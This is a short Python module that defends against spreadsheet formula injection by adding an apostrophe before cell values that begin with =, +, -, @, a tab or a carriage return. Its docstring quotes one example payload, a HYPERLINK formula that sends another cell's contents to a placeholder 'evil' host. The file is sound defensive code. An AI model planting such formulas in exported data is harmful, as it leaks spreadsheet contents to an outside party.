"""Cells that a spreadsheet will not run: what a person typed must stay text.

A name like ``=HYPERLINK("http://evil/?"&A2)`` would be a formula when the
organiser opens the CSV in Excel or LibreOffice. A cell starting with one of
the characters spreadsheets read as the start of a formula (``= + - @``, a
tab or a carriage return) gets a leading apostrophe, which spreadsheets show
as nothing and read as "this is text" (the OWASP advice).
"""

from __future__ import annotations

from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def neutralised(value: Any) -> Any:
    """``value`` safe to put in a spreadsheet cell; non-text values pass unchanged."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value
